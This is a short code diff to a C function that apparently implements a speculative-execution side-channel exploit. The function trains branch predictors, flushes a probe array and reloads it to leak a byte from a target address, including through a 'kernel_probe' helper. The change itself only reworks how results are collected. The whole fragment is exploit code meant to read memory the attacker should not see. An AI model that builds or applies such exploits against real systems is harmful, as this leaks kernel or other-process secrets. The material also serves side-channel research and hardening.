@@ -26,7 +26,6 @@ static void choose(uint64_t address)
 static int read_byte(uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
-	const uint64_t used[] = { address, disclosure, options.known + SHARED_PROBE - SHARED_KNOWN };
 	uint64_t place = disclosure - BRANCH_BYTES;
 
 	begin_receiving(address);
@@ -34,8 +33,7 @@ static int read_byte(uint64_t address)
 	for (int i = 0; i < options.branches.count; i++)
 		train(branches[i], place);
 	flush_probe(probe);
-	end_receiving(used, sizeof(used) / sizeof(*used));
-	translate_probe(probe);
+	end_receiving(address, disclosure, kernel_probe(options.known));
 	return reload_probe(probe);
 }
 
